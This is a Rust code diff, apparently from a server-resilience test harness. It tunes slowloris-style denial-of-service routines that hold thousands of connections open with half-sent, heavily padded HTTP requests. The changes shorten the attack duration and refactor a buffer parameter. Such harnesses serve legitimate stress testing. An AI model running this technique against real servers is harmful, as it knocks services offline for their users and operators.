@@ -43,7 +43,7 @@ pub(crate) struct Progress {
 
 /// How long an attack takes at least, from when it is ready to when it has done enough. Without a pace it
 /// would be another attack on a machine with two cores, where attackers and servers have the same.
-const LASTS: Duration = Duration::from_secs(8);
+const LASTS: Duration = Duration::from_secs(6);
 
 /// Attacks while others are judged, at least until `enough` is done. The judge begins as soon as `ready` is
 /// done; `last` is asked when the attack is over.
@@ -191,18 +191,18 @@ impl Aim {
             self.address,
             self.token.map(line).unwrap_or_default()
         );
-        self.keep_half([head.as_bytes(), &[b' '; 61_000]].concat(), 6_000, progress);
+        self.keep_half(&[head.as_bytes(), &[b' '; 61_000]].concat(), 6_000, progress);
     }
 
     /// Sends heads that stop shortly before their end and their 16 KiB, 10,000 at a time.
     pub(crate) fn half_heads(&self, progress: &Progress) {
         let begun = format!("GET {} HTTP/1.1\r\nhost: {}\r\nx: ", self.page, self.address);
-        self.keep_half([begun.as_bytes(), &[b'y'; 15_900]].concat(), 10_000, progress);
+        self.keep_half(&[begun.as_bytes(), &[b'y'; 15_900]].concat(), 10_000, progress);
     }
 
     /// Keeps so many connections that have sent half of something. A connection counts as kept if it is
     /// still open, and not answered, when its time has come.
-    fn keep_half(&self, half: Vec<u8>, at_once: usize, progress: &Progress) {
+    fn keep_half(&self, half: &[u8], at_once: usize, progress: &Progress) {
         let mut connections = VecDeque::new();
         let mut number = 0;
         while progress.goes_on() {
@@ -211,7 +211,7 @@ impl Aim {
                 progress.through.fetch_add(usize::from(kept), Relaxed);
             }
             let mut stream = connect_from(self.from(number), self.address);
-            let _ = stream.write_all(&half);
+            let _ = stream.write_all(half);
             connections.push_back(stream);
             progress.add(1);
             number += 1;
